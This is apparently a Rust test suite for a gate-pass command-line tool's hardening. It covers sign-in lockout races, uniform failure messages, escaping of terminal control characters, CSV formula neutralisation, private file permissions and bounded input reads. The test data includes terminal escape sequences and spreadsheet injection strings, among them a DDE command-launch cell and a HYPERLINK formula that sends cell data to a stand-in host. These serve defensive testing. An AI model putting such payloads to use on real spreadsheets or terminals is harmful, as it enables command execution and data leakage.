//! Hardening (issue 14): the lockout under parallel guesses, sign-in answers
//! that do not tell usernames apart, text that reaches terminals and
//! spreadsheets, private files and bounded reads.

#[macro_use]
mod common;

use std::process::{Command, Stdio};
use std::sync::{Arc, Barrier};

use common::*;
use gatehouse::domain::user::{Role, User};
use gatehouse::service::{Gatehouse, bcrypt_runs_on_this_thread};

const OP_PW: &str = "operator pass 1";

both_backends!(
    search_finds_accented_capitals,
    invisible_characters_are_refused_and_duplicates_compare_what_is_seen,
    csv_export_neutralises_formulas_and_imports_again,
);

fn user(g: &mut Gatehouse, name: &str) -> User {
    g.list_users().unwrap().into_iter().find(|u| u.username == name).unwrap()
}

fn blocks(g: &mut Gatehouse, event: &str) -> usize {
    g.ledger_blocks(0, 10_000).unwrap().iter().filter(|b| b.event == event).count()
}

/// 30 wrong passwords at once, each thread with its own connection to the
/// same SQLite file: exactly 5 are counted, the fifth locks, one block.
#[test]
fn thirty_parallel_wrong_sign_ins_lock_after_exactly_five() {
    let env = Env::new();
    let mut g = env.open();
    with_admin(&mut g);
    g.add_user(Some(&admin()), "omar", "Omar", Role::Operator, OP_PW).unwrap();
    const N: usize = 30;
    let barrier = Arc::new(Barrier::new(N));
    let handles: Vec<_> = (0..N)
        .map(|_| {
            let barrier = barrier.clone();
            let mut gi = env.open();
            std::thread::spawn(move || {
                barrier.wait();
                gi.authenticate("omar", "wrong password").unwrap_err().to_string()
            })
        })
        .collect();
    for h in handles {
        let e = h.join().unwrap();
        assert!(e.contains("wrong username or password"), "{e}");
    }
    let omar = user(&mut g, "omar");
    assert_eq!(omar.failed_attempts, 5, "{omar:?}");
    assert!(omar.locked_until.is_some(), "{omar:?}");
    assert_eq!(blocks(&mut g, "user_locked"), 1);
    let e = g.authenticate("omar", OP_PW).unwrap_err().to_string();
    assert!(e.contains("locked"), "{e}");
    assert!(g.verify_ledger(None, &mut |_| {}).unwrap().ok);
}

/// The same through separate processes, lined up behind a held write lock
/// so that their counting transactions race.
#[test]
fn parallel_wrong_sign_ins_in_processes_lock_after_exactly_five() {
    let env = Env::new();
    let mut g = env.open();
    with_admin(&mut g);
    g.add_user(Some(&admin()), "omar", "Omar", Role::Operator, OP_PW).unwrap();
    const N: usize = 16;
    let blocker = rusqlite::Connection::open(env.db()).unwrap();
    blocker.execute_batch("BEGIN IMMEDIATE").unwrap();
    let children: Vec<_> = (0..N)
        .map(|_| {
            Command::new(bin())
                .args(["--data-dir", env.data_dir().to_str().unwrap(), "--user", "omar"])
                .args(["scan", "--payload", "hello"])
                .env("GATEHOUSE_PASSWORD", "wrong password")
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    // Every process has read the user and is past bcrypt well before this.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    blocker.execute_batch("COMMIT").unwrap();
    for c in children {
        let out = c.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains("wrong username or password") || err.contains("busy"), "{err}");
    }
    let omar = user(&mut g, "omar");
    assert_eq!((omar.failed_attempts, omar.locked_until.is_some()), (5, true), "{omar:?}");
    assert_eq!(blocks(&mut g, "user_locked"), 1);
}

/// Unknown, disabled and locked users get the wrong-password answer after
/// exactly one bcrypt run each, like a known user with a wrong password.
/// Only the right password tells a disabled or locked user why.
#[test]
fn unknown_disabled_and_locked_users_cannot_be_told_apart() {
    let env = Env::new();
    let mut g = env.open();
    with_admin(&mut g);
    for name in ["real", "dis", "lock"] {
        g.add_user(Some(&admin()), name, name, Role::Operator, OP_PW).unwrap();
    }
    g.set_user_disabled(&admin(), "dis", true).unwrap();
    for _ in 0..5 {
        g.authenticate("lock", "wrong password").unwrap_err();
    }
    assert!(user(&mut g, "lock").locked_until.is_some());

    let attempt = |g: &mut Gatehouse, name: &str, pw: &str| {
        let before = bcrypt_runs_on_this_thread();
        let e = g.authenticate(name, pw).unwrap_err().to_string();
        (e, bcrypt_runs_on_this_thread() - before)
    };
    let answers: Vec<(String, u64)> = ["real", "nobody", "dis", "lock"].iter().map(|n| attempt(&mut g, n, "wrong password")).collect();
    for (e, runs) in &answers {
        assert_eq!((e.as_str(), *runs), ("authentication failed: wrong username or password", 1), "{answers:?}");
    }
    assert_eq!(attempt(&mut g, "nobody", OP_PW).1, 1);
    // Wrong guesses at a disabled or locked user do not change it.
    assert_eq!(user(&mut g, "dis").failed_attempts, 0);
    assert_eq!(user(&mut g, "lock").failed_attempts, 5);
    let (e, runs) = attempt(&mut g, "dis", OP_PW);
    assert!(e.contains("disabled") && runs == 1, "{e} {runs}");
    let (e, runs) = attempt(&mut g, "lock", OP_PW);
    assert!(e.contains("locked") && runs == 1, "{e} {runs}");
}

/// `user unlock` and `user enable` lift a lockout, each with its block.
#[test]
fn unlock_and_enable_lift_a_lockout() {
    let env = Env::new();
    let mut g = env.open();
    with_admin(&mut g);
    g.add_user(Some(&admin()), "omar", "Omar", Role::Operator, OP_PW).unwrap();
    let lock = |g: &mut Gatehouse| {
        for _ in 0..5 {
            g.authenticate("omar", "wrong password").unwrap_err();
        }
        assert!(g.authenticate("omar", OP_PW).unwrap_err().to_string().contains("locked"));
    };
    lock(&mut g);
    g.unlock_user(&admin(), "omar").unwrap();
    assert_eq!(g.authenticate("omar", OP_PW).unwrap().username, "omar");
    assert!(g.unlock_user(&admin(), "omar").unwrap_err().to_string().contains("not locked"));
    assert!(g.unlock_user(&operator(), "omar").is_err());
    lock(&mut g);
    g.set_user_disabled(&admin(), "omar", false).unwrap();
    assert_eq!(g.authenticate("omar", OP_PW).unwrap().username, "omar");
    assert_eq!((blocks(&mut g, "user_unlock"), blocks(&mut g, "user_enable"), blocks(&mut g, "user_locked")), (1, 1, 2));
    let enable = g.ledger_blocks(0, 100).unwrap().into_iter().find(|b| b.event == "user_enable").unwrap();
    assert!(enable.data.contains("\"unlocked\":true"), "{}", enable.data);
}

// ------------------------------------------------------------- the binary

/// A finished gatehouse process, with its raw output bytes.
struct Out {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
}

impl Out {
    fn out(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }
    fn err(&self) -> String {
        String::from_utf8_lossy(&self.stderr).into_owned()
    }
    /// No byte that a terminal acts on: ESC, BEL, or the C1 CSI (U+009B).
    fn no_escapes(&self) -> &Out {
        for (name, bytes) in [("stdout", &self.stdout), ("stderr", &self.stderr)] {
            assert!(!bytes.contains(&0x1b) && !bytes.contains(&0x07), "{name} holds ESC or BEL: {:?}", String::from_utf8_lossy(bytes));
            assert!(!bytes.windows(2).any(|w| w == [0xc2, 0x9b]), "{name} holds U+009B");
            assert!(!String::from_utf8_lossy(bytes).contains('\u{202E}'), "{name} holds U+202E");
        }
        self
    }
}

/// `gatehouse --data-dir DIR ARGS`, signed in as `user` when given.
fn run(env: &Env, user: Option<(&str, &str)>, args: &[&str]) -> Out {
    let mut c = Command::new(bin());
    c.arg("--data-dir").arg(env.data_dir()).args(args).stdin(Stdio::null());
    for v in ["GATEHOUSE_USER", "GATEHOUSE_PASSWORD", "GATEHOUSE_DATA_DIR", "GATEHOUSE_CONFIG"] {
        c.env_remove(v);
    }
    if let Some((u, pw)) = user {
        c.args(["--user", u]).env("GATEHOUSE_PASSWORD", pw);
    }
    let o = c.output().unwrap();
    let out = Out { code: o.status.code(), stdout: o.stdout, stderr: o.stderr };
    assert!(!out.err().contains("panicked"), "{}", out.err());
    out
}

const ADMIN: Option<(&str, &str)> = Some(("asha", PASSWORD));
const OP: Option<(&str, &str)> = Some(("omar", OP_PW));

fn env_with_users() -> Env {
    let env = Env::new();
    let mut g = env.open();
    with_admin(&mut g);
    g.add_user(Some(&admin()), "omar", "Omar", Role::Operator, OP_PW).unwrap();
    env
}

fn mode(p: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn set_mode(p: &std::path::Path, m: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
}

/// Escape sequences in a `--gate`, a config value, a searched id, and in
/// text already stored: refused or printed escaped, never raw.
#[test]
fn escape_sequences_never_reach_the_terminal() {
    let env = env_with_users();
    let (p, code) = issue(&mut env.open(), &single("Ravi Rao", "9876543210"));
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2JEVIL";

    let r = run(&env, OP, &["--gate", evil, "scan", "--payload", &code]);
    assert_eq!(r.code, Some(2));
    assert!(r.err().contains("gate: contains a control character (U+001B)"), "{}", r.err());
    r.no_escapes();
    // Nothing was recorded: the pass is still unused.
    assert!(env.open().get_pass(&p.id).unwrap().scanned_at.is_none());

    let r = run(&env, ADMIN, &["pass", "show", "\u{1b}]0;x\u{7}"]);
    assert_eq!(r.code, Some(2));
    assert!(r.err().contains("not found: \\u{1b}]0;x\\u{7}"), "{}", r.err());
    r.no_escapes();
    // A bad value clap itself rejects is echoed escaped too.
    for bad in ["\u{1b}]0;x\u{7}", "\u{1b}[2J", "x\u{202E}y\u{7}"] {
        let r = run(&env, ADMIN, &["pass", "list", "--payment", bad]);
        assert_eq!(r.code, Some(2));
        assert!(r.err().contains("invalid value"), "{}", r.err());
        r.no_escapes();
    }
    let r = run(&env, ADMIN, &["pass", "list", "--search", "\u{1b}[2J\u{202E}"]);
    assert_eq!(r.code, Some(0), "{}", r.err());
    r.no_escapes();

    // Text stored before these checks (an older database) is shown escaped,
    // in the table, in `pass show` and in JSON (as \u escapes JSON reads back).
    let raw = "Ravi\u{1b}[2J\u{9b}6n\u{202E}Rao";
    rusqlite::Connection::open(env.db())
        .unwrap()
        .execute("UPDATE passes SET holder_name = ?1, gate = ?1, scanned_at = '2026-11-21T18:30:00.000000Z' WHERE id = ?2", [raw, &p.id])
        .unwrap();
    for args in [&["pass", "show", &p.id[..8]][..], &["pass", "list"], &["ledger", "show"]] {
        let r = run(&env, ADMIN, args);
        assert_eq!(r.code, Some(0), "{args:?}: {}", r.err());
        r.no_escapes();
    }
    let r = run(&env, ADMIN, &["pass", "show", &p.id[..8]]);
    assert!(r.out().contains("Ravi\\u{1b}[2J\\u{9b}6n\\u{202e}Rao"), "{}", r.out());
    let r = run(&env, ADMIN, &["pass", "show", &p.id[..8], "--json"]);
    r.no_escapes();
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(v["holder_name"], raw);
    let r = run(&env, OP, &["scan", "--payload", &code]);
    assert_eq!(r.code, Some(1), "{}", r.err());
    r.no_escapes();
    assert!(r.out().contains("ALREADY_USED"), "{}", r.out());

    // A config value with escapes: refused, and the error is escaped.
    let cfg = std::fs::read_to_string(&env.paths.config).unwrap();
    std::fs::write(&env.paths.config, cfg.replace("name = \"Main Gate\"", "name = \"\\u001b]0;x\\u0007Gate\"")).unwrap();
    let r = run(&env, ADMIN, &["pass", "list"]);
    assert_eq!(r.code, Some(2));
    assert!(r.err().contains("gate.name contains a control character (U+001B)"), "{}", r.err());
    r.no_escapes();
    for (from, to) in [
        ("name = \"Gatehouse Event\"", "name = \"Gala\\u202Eevil\""),
        ("slots = [\"7:00 PM - 11:00 PM\"]", "slots = [\"7 PM\\u200B\"]"),
        ("footer = ", "footer = \"\\u0007\" #"),
    ] {
        assert!(cfg.contains(from), "{from}");
        std::fs::write(&env.paths.config, cfg.replacen(from, to, 1)).unwrap();
        let r = run(&env, ADMIN, &["pass", "list"]);
        assert_eq!(r.code, Some(2), "{to}");
        assert!(r.err().contains("contains"), "{}", r.err());
        r.no_escapes();
    }
}

/// Reads that show payloads or personal data sign in; operators read what
/// manual check-in needs, without payloads.
#[test]
fn reads_need_a_sign_in_and_operators_see_no_payloads() {
    let env = env_with_users();
    let (p, code) = issue(&mut env.open(), &single("Élise Ñúñez", "9876543210"));
    let id = p.id.as_str();
    let png = env.dir.path().join("x.png");
    let png = png.to_str().unwrap();
    for args in [
        &["pass", "list"][..],
        &["pass", "show", id],
        &["pass", "qr", id, "--terminal"],
        &["pass", "card", id, "--png", png],
        &["print", id],
        &["export", "passes", "--csv", png],
        &["user", "list"],
        &["backup"],
        &["resident", "list"],
        &["ledger", "show"],
    ] {
        let r = run(&env, None, args);
        assert_eq!(r.code, Some(2), "{args:?}");
        assert!(r.err().contains("needs a sign-in") && !r.err().contains("changes data"), "{args:?}: {}", r.err());
    }
    for args in [
        &["pass", "qr", id, "--terminal"][..],
        &["pass", "card", id, "--png", png],
        &["print", id],
        &["export", "passes", "--csv", png],
        &["user", "list"],
        &["backup"],
    ] {
        let r = run(&env, OP, args);
        assert_eq!(r.code, Some(2), "{args:?}");
        assert!(r.err().contains("only an admin"), "{args:?}: {}", r.err());
    }
    // Operators search and read, without payloads.
    let r = run(&env, OP, &["pass", "list", "--search", "élise", "--json"]);
    assert_eq!(r.code, Some(0), "{}", r.err());
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(v[0]["holder_name"], "Élise Ñúñez");
    assert!(v[0].get("payload").is_none() && !r.out().contains(&code), "{v}");
    let r = run(&env, OP, &["pass", "show", id]);
    assert!(r.out().contains("Élise Ñúñez") && !r.out().contains(&code) && !r.out().contains("payload"), "{}", r.out());
    let r = run(&env, ADMIN, &["pass", "show", id]);
    assert!(r.out().contains(&code), "{}", r.out());
}

// ---------------------------------------------------------------- Unicode

/// Search folds case over all of Unicode, for passes and residents, in
/// rows written before the search column existed too (a SQLite file from
/// before migration 2; PostgreSQL had the column from its first schema).
fn search_finds_accented_capitals(b: Backend) {
    use gatehouse::domain::resident::ResidentRequest;
    use gatehouse::store::PassFilter;
    let env = Env::on(b);
    let mut g = env.open();
    issue(&mut g, &single("Élise Ñúñez", "9876543210"));
    issue(&mut g, &single("Asha Rao", "9876543211"));
    let r = ResidentRequest { name: "ÖZLEM Çelik".into(), room: "B-204".into(), ..Default::default() };
    g.add_resident(&admin(), &r).unwrap();
    drop(g);
    if b == Backend::Sqlite {
        // Make the database look like one from before migration 2, then reopen.
        let c = rusqlite::Connection::open(env.db()).unwrap();
        c.execute_batch(
            "ALTER TABLE passes DROP COLUMN search_key; ALTER TABLE residents DROP COLUMN search_key;
             DROP INDEX scans_nonce; ALTER TABLE scans DROP COLUMN nonce; ALTER TABLE scans DROP COLUMN reason;
             DROP TABLE sessions; DROP TABLE event_rules; DROP TABLE issuing_keys; DROP TABLE key_slots; DROP TABLE gates; DROP TABLE gate_tokens;
             ALTER TABLE passes DROP COLUMN inside; ALTER TABLE passes DROP COLUMN entered; ALTER TABLE passes DROP COLUMN entry_day;
             ALTER TABLE passes DROP COLUMN last_in_at; ALTER TABLE passes DROP COLUMN last_in_gate; ALTER TABLE passes DROP COLUMN note;
             PRAGMA user_version = 1;",
        )
        .unwrap();
        drop(c);
    }
    let mut g = env.open();
    let find = |g: &mut Gatehouse, s: &str| -> Vec<String> {
        let f = PassFilter { search: Some(s.into()), ..Default::default() };
        g.list_passes(&f).unwrap().into_iter().map(|p| p.holder_name).collect()
    };
    for s in ["élise", "Élise", "ÉLISE", "ñúñez", "ÑÚÑEZ", "E\u{301}LISE", "lise ñ"] {
        assert_eq!(find(&mut g, s), ["Élise Ñúñez"], "{s}");
    }
    assert!(find(&mut g, "elise").is_empty(), "case folds; accents stay");
    issue(&mut g, &single("ÅSE Lindqvist", "9876543212"));
    assert_eq!(find(&mut g, "åse"), ["ÅSE Lindqvist"]);
    for s in ["özlem", "ÇELIK", "b-204"] {
        let names: Vec<String> = g.list_residents(Some(s), false).unwrap().into_iter().map(|r| r.name).collect();
        assert_eq!(names, ["ÖZLEM Çelik"], "{s}");
    }
}

/// Each invisible or direction character is refused in a holder's name, and
/// a name that differs only in invisible characters or composition is no
/// way around the one-pass-per-holder check.
fn invisible_characters_are_refused_and_duplicates_compare_what_is_seen(b: Backend) {
    let env = Env::on(b);
    let mut g = env.open();
    issue(&mut g, &single("Asha Rao", "9876543210"));
    for c in ['\u{200B}', '\u{2800}', '\u{3164}', '\u{202E}', '\u{FEFF}', '\u{200D}', '\u{2066}', '\u{115F}', '\u{1b}'] {
        for name in [format!("Asha{c}Rao"), format!("Asha {c}Rao"), c.to_string().repeat(4)] {
            let e = g.issue_pass(&admin(), &single(&name, "9876543210")).unwrap_err().to_string();
            assert!(e.contains("name: contains"), "U+{:04X} in {name:?}: {e}", c as u32);
        }
    }
    // NFD and NFC spellings of one name are one holder.
    issue(&mut g, &single("Élise Ñúñez", "9876543211"));
    let e = g.issue_pass(&admin(), &single("E\u{301}lise N\u{303}u\u{301}n\u{303}ez", "9876543211")).unwrap_err();
    assert!(matches!(e, gatehouse::Error::DuplicatePass { .. }), "{e}");
    let e = g.issue_pass(&admin(), &single("ASHA  RAO", "9876543210")).unwrap_err();
    assert!(matches!(e, gatehouse::Error::DuplicatePass { .. }), "{e}");
}

// -------------------------------------------------------------------- CSV

/// Formula-looking cells are neutralised, `Anna-Lena` and phones are not,
/// and the exported file imports into another gatehouse as it is.
fn csv_export_neutralises_formulas_and_imports_again(b: Backend) {
    let env = Env::on(b);
    let mut g = env.open();
    let names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "Anna-Lena"];
    for (i, n) in names.iter().enumerate() {
        issue(&mut g, &single(n, &format!("+91987654321{i}")));
    }
    let mut c = couple("Ravi", "9000000001", "Meena", "9000000002");
    c.txn_ref = Some("=1+2".into());
    issue(&mut g, &c);
    let file = env.dir.path().join("passes.csv");
    g.export_csv(gatehouse::service::ExportKind::Passes, &file).unwrap();
    let mut rdr = csv::Reader::from_path(&file).unwrap();
    let h: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    let col = |n: &str| h.iter().position(|c| c == n).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let cell = |row: &csv::StringRecord, n: &str| row.get(col(n)).unwrap().to_string();
    let holders: Vec<String> = rows.iter().map(|r| cell(r, "holder_name")).collect();
    for n in &names[..4] {
        assert!(holders.contains(&format!("'{n}")), "{n} not neutralised: {holders:?}");
    }
    assert!(holders.contains(&"Anna-Lena".to_string()), "{holders:?}");
    assert!(rows.iter().any(|r| cell(r, "txn_ref") == "'=1+2"));
    // Phones are written as stored: `+` and digits, which no spreadsheet runs.
    assert!(rows.iter().any(|r| cell(r, "holder_phone") == "+919876543210"));
    for r in &rows {
        for c in r.iter() {
            assert!(!c.starts_with(['=', '@', '\t', '\r']), "{c}");
            assert!(!c.starts_with(['+', '-']) || c[1..].chars().all(|d| d.is_ascii_digit() || d == '.'), "{c}");
        }
    }

    // The round trip: the same holders, phones and references, new ids.
    let other = Env::on(b);
    let mut g2 = other.open();
    let imported = g2.import_passes_file(&admin(), &file).unwrap();
    assert_eq!(imported.len(), rows.len());
    let mut before: Vec<_> = g.list_passes(&Default::default()).unwrap();
    let mut after: Vec<_> = g2.list_passes(&Default::default()).unwrap();
    for l in [&mut before, &mut after] {
        l.sort_by(|a, b| a.holder_name.cmp(&b.holder_name));
    }
    let key = |p: &gatehouse::domain::pass::Pass| {
        (p.holder_name.clone(), p.holder_phone.clone(), p.holder2_name.clone(), p.txn_ref.clone(), p.price_cents, p.slot.clone())
    };
    assert_eq!(before.iter().map(key).collect::<Vec<_>>(), after.iter().map(key).collect::<Vec<_>>());
}

// ------------------------------------------------------------------ files

/// Backups and exports are 0600, their folders 0700 (an existing, open
/// folder included), and an export never lands on gatehouse's own files.
#[test]
fn backups_exports_and_folders_are_private() {
    let env = env_with_users();
    let data = env.data_dir().to_path_buf();
    let backups = data.join("backups");
    let logs = data.join("logs");
    for d in [&backups, &logs] {
        std::fs::create_dir_all(d).unwrap();
        set_mode(d, 0o755);
    }
    let r = run(&env, ADMIN, &["backup"]);
    assert_eq!(r.code, Some(0), "{}", r.err());
    let file = r.out().lines().find_map(|l| l.strip_prefix("backup written: ").map(std::path::PathBuf::from)).unwrap();
    assert_eq!((mode(&file), mode(&backups), mode(&logs)), (0o600, 0o700, 0o700));
    let to = env.dir.path().join("elsewhere");
    let r = run(&env, ADMIN, &["backup", "--to", to.to_str().unwrap()]);
    let file = r.out().lines().find_map(|l| l.strip_prefix("backup written: ").map(std::path::PathBuf::from)).unwrap();
    assert_eq!((mode(&file), mode(&to)), (0o600, 0o700));

    let csv = env.dir.path().join("passes.csv");
    let r = run(&env, ADMIN, &["export", "passes", "--csv", csv.to_str().unwrap()]);
    assert_eq!((r.code, mode(&csv)), (Some(0), 0o600), "{}", r.err());

    let db_before = std::fs::read(env.db()).unwrap();
    let owned = ["gatehouse.db", "gatehouse.db-wal", "gatehouse.db-shm", "gatehouse.key", "config.toml", "backups/x.csv", "logs/x.csv"];
    for name in owned {
        for what in ["passes", "ledger"] {
            let target = data.join(name);
            let r = run(&env, ADMIN, &["export", what, "--csv", target.to_str().unwrap()]);
            assert_eq!(r.code, Some(2), "{name}: {}", r.out());
            assert!(r.err().contains("refusing to export onto"), "{name}: {}", r.err());
        }
    }
    // Through another spelling of the same path, and through a symlink.
    let dotted = data.join("backups/../gatehouse.db");
    let link = env.dir.path().join("link.csv");
    std::os::unix::fs::symlink(env.db(), &link).unwrap();
    for target in [&dotted, &link] {
        let r = run(&env, ADMIN, &["export", "passes", "--csv", target.to_str().unwrap()]);
        assert!(r.code == Some(2) && r.err().contains("refusing"), "{}: {}", target.display(), r.err());
    }
    assert_eq!(std::fs::read(env.db()).unwrap(), db_before);
    let mut g = env.open();
    assert!(g.verify_ledger(None, &mut |_| {}).unwrap().ok);
}

/// A copy stamped in the future (the clock was once set ahead) is reported
/// and left alone, and the copy just written is kept.
#[test]
fn retention_with_a_future_stamped_copy() {
    let env = env_with_users();
    let backups = env.data_dir().join("backups");
    std::fs::create_dir_all(&backups).unwrap();
    let future: Vec<_> = (1..=40).map(|d| backups.join(format!("gatehouse-20{}1231T000000Z.db", 30 + d))).collect();
    // Copies of this event (retention counts no other event's).
    for f in &future {
        std::fs::copy(env.db(), f).unwrap();
    }
    let r = run(&env, ADMIN, &["backup"]);
    assert_eq!(r.code, Some(0), "{}", r.err());
    let file = r.out().lines().find_map(|l| l.strip_prefix("backup written: ").map(std::path::PathBuf::from)).unwrap();
    assert!(file.is_file(), "the new copy was deleted: {}", r.out());
    assert!(future.iter().all(|f| f.exists()) && !r.out().contains("retention removed"), "{}", r.out());
    assert_eq!(r.err().matches("stamped in the future").count(), 40, "{}", r.err());
}

/// `key rotate` over a stale, world-readable `.new` leaves the key 0600 and
/// records its block; a malformed key file's error holds no key material,
/// on the terminal or in the log.
#[test]
fn key_rotation_and_key_file_errors_stay_private() {
    let env = env_with_users();
    let key = env.paths.key();
    let stale = env.data_dir().join("gatehouse.key.new");
    std::fs::write(&stale, "junk\n").unwrap();
    set_mode(&stale, 0o644);
    let r = run(&env, ADMIN, &["key", "rotate"]);
    assert_eq!(r.code, Some(0), "{}", r.err());
    assert_eq!(mode(&key), 0o600);
    let mut g = env.open();
    assert_eq!(g.keys().ids().collect::<Vec<_>>(), ["01", "02"]);
    assert_eq!(blocks(&mut g, "key_rotate"), 1);
    drop(g);

    let good = std::fs::read_to_string(&key).unwrap();
    let hexes: Vec<String> =
        good.lines().filter(|l| !l.starts_with('#')).filter_map(|l| l.split_whitespace().nth(1)).map(String::from).collect();
    let swapped: String = good
        .lines()
        .map(|l| match l.split_once(' ') {
            Some((id, hex)) if !l.starts_with('#') => format!("{hex} {id}\n"),
            _ => format!("{l}\n"),
        })
        .collect();
    std::fs::write(&key, swapped).unwrap();
    let r = run(&env, ADMIN, &["pass", "list"]);
    assert_eq!(r.code, Some(2));
    assert!(r.err().contains("bad key id"), "{}", r.err());
    let mut logged = String::new();
    for e in std::fs::read_dir(env.data_dir().join("logs")).unwrap() {
        logged.push_str(&std::fs::read_to_string(e.unwrap().path()).unwrap());
    }
    assert!(logged.contains("bad key id"), "the error is logged: {logged}");
    for h in &hexes {
        for half in [&h[..32], &h[32..], &h[..8]] {
            assert!(!r.err().contains(half) && !r.out().contains(half) && !logged.contains(half), "key material shown");
        }
    }
}

// ---------------------------------------------------------- bounded reads

/// Counts the bytes read through it.
struct Counting<R> {
    inner: R,
    read: Arc<std::sync::atomic::AtomicU64>,
}

impl<R: std::io::Read> std::io::Read for Counting<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read.fetch_add(n as u64, std::sync::atomic::Ordering::SeqCst);
        Ok(n)
    }
}

/// A 50 MB line is rejected after at most 513 bytes are read; the file
/// through the binary too.
#[test]
fn a_huge_payload_file_is_rejected_after_513_bytes() {
    use std::io::Read;
    let env = env_with_users();
    let mut g = env.open();
    let read = Arc::new(std::sync::atomic::AtomicU64::new(0));
    let input = Counting { inner: std::io::repeat(b'A').take(50 << 20), read: read.clone() };
    let mut seen = Vec::new();
    let e = g.scan_lines(input, &operator(), "North", &mut |o| seen.push(o.verdict)).unwrap_err().to_string();
    assert!(e.contains("longer than 512 bytes"), "{e}");
    let n = read.load(std::sync::atomic::Ordering::SeqCst);
    assert!(n <= 513, "read {n} bytes");
    assert_eq!(seen, [gatehouse::domain::scan::Verdict::Malformed]);

    // Good lines before a long one are scanned; a payload's own line is read whole.
    let (_, code) = issue(&mut g, &single("Asha Rao", "9876543210"));
    let text = format!("{code}\r\n\n{code}\n{}\n", "B".repeat(600));
    let mut seen = Vec::new();
    assert!(g.scan_lines(text.as_bytes(), &operator(), "North", &mut |o| seen.push(o.verdict.as_str())).is_err());
    assert_eq!(seen, ["ADMITTED", "ALREADY_USED", "MALFORMED"]);

    let big = env.dir.path().join("big.txt");
    std::fs::File::create(&big).unwrap().set_len(50 << 20).unwrap();
    let r = run(&env, OP, &["scan", "--payload-file", big.to_str().unwrap()]);
    assert_eq!(r.code, Some(2));
    assert!(r.out().starts_with("MALFORMED") && r.err().contains("longer than 512 bytes"), "{}{}", r.out(), r.err());
}
